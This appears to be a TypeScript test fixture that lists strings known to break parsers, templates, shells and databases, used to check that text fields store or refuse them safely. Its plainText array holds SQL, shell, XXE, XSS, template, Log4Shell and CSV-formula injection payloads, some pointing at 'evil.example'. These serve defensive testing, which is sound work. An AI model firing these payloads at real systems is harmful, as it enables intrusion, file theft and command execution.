// Strings that have broken programs: what a parser, a template, a shell, a database, a log or a person takes for something else. All of them are
// text that somebody may want to write, so they are kept as they are, or refused by the one rule of text fields.

/** Ordinary text for us: taken in every text field, and given back unchanged. */
export const plainText: readonly string[] = [
  // Words and numbers that loosely typed code converts.
  'undefined', 'null', 'NULL', 'None', 'nil', 'NaN', 'Infinity', '-Infinity', 'true', 'false', '0', '-0', '1e400', '0x10', '1,000', '1.', '.5', '௧௨௩', '[object Object]', '[]', '{}', '""', '__proto__',
  'constructor', 'hasOwnProperty', 'toString', 'then', '$where', '$ne', '{"$gt":""}', 'ObjectId()', '00', '1/0', '9223372036854775808', '2026-02-30', 'COM1', 'CON', 'NUL', 'AUX',
  // SQL.
  `' OR '1'='1`, `' OR 1=1 --`, `'; DROP TABLE users; --`, `1; SELECT pg_sleep(10)`, `' UNION SELECT NULL, NULL --`, `admin'--`, `\\'; SELECT 1; --`, `' || (SELECT version()) || '`, `$$; SELECT 1; $$`, `E'\\x41'`,
  '%', '_', '%_%', 'a%27b', '?', '$1', ':id', '/* x */', '-- x', ';', `"`, `'`, '`', '\\', '\\\\',
  // LDAP, XPath, NoSQL, XML, CSV.
  '*)(uid=*))(|(uid=*', '*)(&', `' or count(/*)=1 or '`, `'] | //user/* | //x['`, `{"$ne": null}`, `this.password.match(/.*/)//`, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<![CDATA[<x>]]>', '&lt;b&gt; &amp;amp;', '&#0;', `=HYPERLINK("https://evil.example")`, '@SUM(1+1)', `+cmd|' /C calc'!A0`, '-2+3',
  // Shell and paths.
  '$(reboot)', '`reboot`', '; reboot', '| reboot', '& reboot &', '&& reboot', '> /dev/null', '${HOME}', '%PATH%', '~', '!!', '../../../etc/passwd', '..\\..\\x', '/dev/null', 'file:///etc/passwd', '--help', '-rf', 'a b',
  // Markup and scripts.
  '<script>alert(1)</script>', '</script><script>alert(1)</script>', '<!--', '-->', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', `'-alert(1)-'`, 'javascript:alert(1)', 'data:text/html,x', '\\u003cscript\\u003e', '\\x3cscript\\x3e',
  // Templates and format strings.
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% raw %}', '{{constructor.constructor("x")()}}', '${jndi:ldap://evil.example/a}', '%s%s%s%s', '%n%n%n', '%d %i %f %j %o %O %c', '%x', '{0}', '%(name)s', '$&', "$'", '$`', '$<x>',
  // Encodings, which are decoded at most once: here not at all.
  '%0d%0aSet-Cookie: a=b', '%00', '%252e%252e%252f', '%c0%ae', '%u0041', '\\r\\nX: y', '\\n', '\\0', '\\u0000', '&#13;&#10;', '=?utf-8?q?=0d=0a?=', '+ADw-script+AD4-', 'a+b',
  // Scripts, forms and lengths of Unicode.
  'Ω≈ç√∫˜µ≤≥÷', 'åß∂ƒ©˙∆˚¬…æ', '社會科學院語學研究所', 'パーティーへ行かないか', 'нет', 'ثم نفس سقطت', 'בְּרֵאשִׁית', '田中さんにあげて下さい', '𐐜 𐐔𐐇𐐝𐐀', '😀 👩‍👩‍👧‍👦 👍🏽 🏳️‍🌈 🇺🇳', 'Ｔｈｅ ｑｕｉｃｋ', '𝕋𝕙𝕖 𝖖𝖚𝖎𝖈𝖐', 'ﬁ ﬃ', 'İıſK',
  'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮'.normalize('NFC'), 'a\u200eb', 'a\u200fב', 'a\u061cب', '﷽', 'ﷺ', 'a\u200bb', 'a\u00a0b', 'a\u00adb', 'a\u2060b', '\ufffd', '\ufffe', '\uffff', '\u{10ffff}', '𠜎𠜱𠝹', '‘’“”', '½ ⅓ ٪', '﹤script﹥', '＜script＞', '＇ OR １＝１',
];

/** Text with a form that is not NFC, and that form. */
export const composed: readonly (readonly [string, string])[] = [
  ['e\u0301', 'é'],
  ['A\u030a', 'Å'],
  ['\u212b', 'Å'],
  ['\u1100\u1161', '가'],
  ['s\u0323\u0307', 'ṩ'],
  ['\u2126', 'Ω'],
];

/** More than one line: kept by fields of several lines, refused by those of one. */
export const severalLines: readonly string[] = ['a\nb', 'a\tb', 'a\n\n<script>\n', 'Subject\nBcc: victim@example.org', '{\n"a":1}', '%0a\n%0d'];

/** What forges lines, headers or directions, or looks like a sealed cell: refused everywhere. */
export const unsafeText: readonly string[] = [
  'a\u0000b', '\u0000', 'a\u0008b', 'a\u001b[31mred', 'a\u007fb', 'a\u0085b', 'a\u009b31mb', 'a\ufeffb', 'a\u202eb', 'a\u202ab\u202c', 'a\u2066b\u2069',
  'enc:v1:AAAA', 'a\u000bb', 'a\u000cb', '\u0001',
]; // prettier-ignore

/** Line ends of other systems: LF is kept of them in a text of several lines. */
export const lineEnds: readonly (readonly [string, string])[] = [
  ['a\r\nSet-Cookie: b=c', 'a\nSet-Cookie: b=c'],
  ['a\rb', 'a\nb'],
  ['\r\n\r\n', '\n\n'],
];

/** Nothing that anybody could see. */
export const invisible: readonly string[] = [
  '\u200b', '\u200d\u200d', '\u3164', '\u115f\u1160', '\uffa0', '\u2800', '\u00ad', '\u034f', '\u0301', '\u200e\u200f', '\u{e0041}', '\u2060\u180e', '\ufe0f', '\u{1d173}',
]; // prettier-ignore

/** Line ends that only some programs know: fine in a text of several lines, not in one line. */
export const separators: readonly string[] = ['a\u2028b', 'a\u2029b'];
